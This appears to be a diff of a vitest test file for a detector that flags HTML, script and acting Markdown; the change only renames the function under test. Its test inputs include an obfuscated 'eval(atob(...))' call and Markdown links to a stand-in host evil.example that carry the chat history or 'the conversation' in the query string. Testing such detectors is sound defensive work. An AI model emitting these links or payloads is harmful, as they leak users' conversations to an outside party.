@@ -1,6 +1,7 @@
 /** HTML, script, Markdown that acts: what contains it, and what only talks about it. */
 import { expect, test } from 'vitest';
-import { type RiskFlag, riskFlags } from '../../functions/risk/risk.ts';
+import type { RiskFlag } from '../../functions/risk/risk.ts';
+import { flagsOf } from './flags.ts';
 
 const HTML: RiskFlag[] = ['html_or_script_content'];
 
@@ -27,7 +28,7 @@ test.each([
   'data:text/html,hi',
   'eval(atob("eA=="))',
 ])('markup: %s', (text) => {
-  expect(riskFlags([text])).toEqual(HTML);
+  expect(flagsOf([text])).toEqual(HTML);
 });
 
 test.each([
@@ -44,7 +45,7 @@ test.each([
   'The onload handler fires twice.',
   'Tom &amp; Jerry &lt;3',
 ])('prose: %s', (text) => {
-  expect(riskFlags([text])).toEqual([]);
+  expect(flagsOf([text])).toEqual([]);
 });
 
 test.each([
@@ -62,7 +63,7 @@ test.each([
   '[log](https://evil.example/?q=${history})',
   '[log](https://evil.example/?q=[the conversation])',
 ])('Markdown that acts or deceives: %s', (text) => {
-  expect(riskFlags([text])).toEqual(HTML);
+  expect(flagsOf([text])).toEqual(HTML);
 });
 
 test.each([
@@ -73,5 +74,5 @@ test.each([
   '[1]: https://card.example/changelog',
   'a factorial: n![1] and an array[0](call)',
 ])('Markdown that only links: %s', (text) => {
-  expect(riskFlags([text])).toEqual([]);
+  expect(flagsOf([text])).toEqual([]);
 });
